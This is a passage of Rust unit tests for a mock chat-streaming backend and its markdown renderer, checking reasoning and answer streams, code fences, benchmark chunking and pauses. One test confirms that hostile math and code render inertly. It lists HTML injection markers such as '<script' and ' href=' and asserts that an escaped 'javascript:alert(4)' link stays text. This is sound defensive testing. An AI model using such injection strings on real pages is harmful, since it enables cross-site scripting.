                _ => None,
            }
        }
        assert_eq!(text(reasoning, &s.steps), MATH_REASONING);
        assert_eq!(text(answer, &s.steps), MATH_ANSWER);
        let pause = s
            .steps
            .iter()
            .position(|st| st.delay == MATH_PAUSE)
            .expect("a pause");
        let before = text(answer, &s.steps[..pause]);
        assert!(before.ends_with(MATH_PAUSE_AFTER), "{before}");
        let opened = before.rfind("\\[").expect("a display formula");
        assert!(!before[opened..].contains("\\]"), "{before}");
        for form in ["$a", "\\(", "$$", "\\["] {
            assert!(
                MATH_REASONING.contains(form) && MATH_ANSWER.contains(form),
                "{form}"
            );
        }
    }

    #[test]
    fn topic_tags_label_reasoning_inside_thinking_tags() {
        let s = scenario_for("mock:topic-tags", Duration::ZERO);
        let text: String = s
            .steps
            .iter()
            .flat_map(|st| &st.deltas)
            .filter_map(|d| match d {
                Delta::Answer(t) => Some(t.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(text, TOPIC_TAGS);
        let inside = &text[text.find("<thinking>").unwrap()..text.find("</thinking>").unwrap()];
        let first = inside.find("<topic>Checking the units</topic>").unwrap();
        let second = inside.find("<topic>Writing the answer</topic>").unwrap();
        assert!(first < second && inside[first..second].contains("\n\n"));
    }

    #[test]
    fn code_answers_in_three_fenced_languages_after_reasoning_with_code() {
        let s = scenario_for("mock:code", Duration::ZERO);
        let (mut reasoning, mut answer) = (String::new(), String::new());
        for delta in s.steps.iter().flat_map(|st| &st.deltas) {
            match delta {
                Delta::Reasoning(t) => reasoning.push_str(t),
                Delta::Answer(t) => answer.push_str(t),
                _ => {}
            }
        }
        assert_eq!(
            (reasoning.as_str(), answer.as_str()),
            (CODE_REASONING, CODE_ANSWER)
        );
        let fences: Vec<&str> = answer
            .lines()
            .filter_map(|line| line.strip_prefix("```"))
            .collect();
        assert_eq!(fences, ["rust", "", "python", "", "bash", ""]);
        assert!(reasoning.contains("```rust\n"));
    }

    /// What the hostile-markdown story (`end2end/tests/hostile-markdown.spec.ts`)
    /// counts in the page, as the renderer writes it: every attack shown as
    /// text or refused, nothing outside the renderer's own markup.
    #[test]
    fn hostile_math_and_code_render_as_text_and_inert_markup() {
        use crate::app::markdown::render_markdown;
        use crate::app::markdown_check::inert_violation;
        let math = render_markdown(HOSTILE_MATH);
        let code = render_markdown(HOSTILE_CODE);
        for html in [&math, &code] {
            assert_eq!(inert_violation(html), None, "{html}");
            // Text never holds a raw `<`: these find tags only.
            for tag in [
                "<script", "<img", "<svg", "<a ", " style=", " href=", " src=",
            ] {
                assert!(!html.contains(tag), "{tag} in {html}");
            }
        }
        assert_eq!(
            math.matches("<code class=\"math-error\">").count(),
            10,
            "{math}"
        );
        assert_eq!(math.matches("<math>").count(), 4, "{math}");
        assert_eq!(math.matches("<mtext>").count(), 2, "{math}");
        assert!(
            math.contains("&lt;a&nbsp;href=”javascript:alert(4)”&gt;t&lt;/a&gt;"),
            "{math}"
        );
        assert_eq!(
            code.matches("<div class=\"code-block\">").count(),
            5,
            "{code}"
        );
        assert_eq!(code.matches("class=\"language-").count(), 1, "{code}");
        assert_eq!(
            code.matches("<span class=\"code-lang\">").count(),
            1,
            "{code}"
        );
        for shown in ["one\n", "two\n", "three\n", "four\n", "&lt;img</span>"] {
            assert!(code.contains(shown), "{shown} in {code}");
        }
    }

    #[test]
    fn hostile_scenarios_never_end_by_themselves() {
        for k in HOSTILE_KEYWORDS {
            let s = scenario_for(&format!("mock:{k}"), Duration::ZERO);
            assert!(
                matches!(s.fault, Fault::Endless(_) | Fault::HugeErrorBody),
                "{k}: {:?}",
                s.fault
            );
            assert!(!KEYWORDS.contains(k), "{k} is played whole by tests");
        }
    }

    #[test]
    fn huge_carries_a_megabyte_of_reasoning() {
        let s = scenario_for("mock:huge", Duration::ZERO);
        let bytes: usize = s
            .steps
            .iter()
            .flat_map(|st| &st.deltas)
            .map(|d| match d {
                Delta::Reasoning(t) => t.len(),
                _ => 0,
            })
            .sum();
        assert!(bytes >= 1024 * 1024);
    }

    #[test]
    fn bench_render_streams_a_megabyte_in_20000_chunks_then_a_markdown_answer() {
        let s = scenario_for("mock:bench-render", Duration::from_millis(60));
        let deltas: Vec<&Delta> = s.steps.iter().flat_map(|st| &st.deltas).collect();
        let reasoning: Vec<&String> = deltas
            .iter()
            .filter_map(|d| match d {
                Delta::Reasoning(t) => Some(t),
                _ => None,
            })
            .collect();
        let answer: String = deltas
            .iter()
            .filter_map(|d| match d {
                Delta::Answer(t) => Some(t.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(reasoning.len(), BENCH_REASONING_CHUNKS);
        let reasoning_bytes: usize = reasoning.iter().map(|t| t.len()).sum();
        assert_eq!(reasoning_bytes, 1024 * 1024);
        let text: String = reasoning.iter().map(|t| t.as_str()).collect();
        assert!(text.contains("\n\n**Step 2 of the analysis**\n\n"));
        // Reasoning first, then the answer: no reasoning after the first answer chunk.
        let first_answer = deltas.iter().position(|d| matches!(d, Delta::Answer(_)));
        let last_reasoning = deltas
            .iter()
            .rposition(|d| matches!(d, Delta::Reasoning(_)));
        assert!(last_reasoning < first_answer);
        assert!(answer.len() >= 200 * 1024 && answer.len() < 210 * 1024);
        assert!(answer.contains("\n- each round halves it\n"));
        assert!(answer.contains("\n1. compare the middle\n"));
        assert!(answer.contains("```rust\n"));
        assert!(deltas.iter().all(|d| match d {
            Delta::Answer(t) => t.chars().count() <= 32,
            _ => true,
        }));
    }

    #[test]
    fn bench_render_paces_itself_whatever_the_mock_delay() {
        for delay in [Duration::ZERO, Duration::from_millis(60)] {
            let s = scenario_for("mock:bench-render", delay);
            let paused = s.steps.iter().filter(|st| !st.delay.is_zero()).count();
            assert!(s
                .steps
                .iter()
                .all(|st| st.delay <= Duration::from_millis(1)));
            assert_eq!(paused, s.steps.len().div_ceil(2));
        }
    }

    fn answer_text(s: &Scenario) -> String {
        s.steps
            .iter()
            .flat_map(|step| &step.deltas)
            .filter_map(|d| match d {
                Delta::Answer(t) => Some(t.as_str()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn bench_code_streams_a_350_kb_code_block_in_7500_chunks() {
        let s = scenario_for("mock:bench-code", Duration::from_millis(60));
        let answers = s
            .steps
            .iter()
            .flat_map(|step| &step.deltas)
            .filter(|d| matches!(d, Delta::Answer(_)))
            .count();
        assert_eq!(answers, BENCH_CODE_CHUNKS);
        let text = answer_text(&s);
        assert_eq!(text, bench_code_text());
        let code = &text[text.find("```rust\n").unwrap() + 8..text.rfind("```").unwrap()];
        assert_eq!(code.len(), BENCH_CODE_BYTES);
        assert!(code.ends_with('\n') && !code.contains("```"));
        // Paced by itself, as bench-render.
        assert_eq!(s.steps[0].delay, BENCH_PAUSE);
    }

    #[test]
    fn half_written_pauses_inside_bold_formula_and_fence() {
        let s = scenario_for("mock:half-written", Duration::from_millis(60));
        assert_eq!(answer_text(&s), HALF_WRITTEN);
        let mut text = String::new();
        let mut paused_after = Vec::new();
        for step in &s.steps {
            if step.delay == HALF_WRITTEN_PAUSE {
                paused_after.push(text.clone());
            }
            for d in &step.deltas {
                if let Delta::Answer(t) = d {
                    text.push_str(t);
                }
            }
        }
        assert_eq!(paused_after.len(), HALF_WRITTEN_PAUSES.len());
        for (before, marker) in paused_after.iter().zip(HALF_WRITTEN_PAUSES) {
            assert!(before.ends_with(marker), "{before:?}");
        }
    }
}
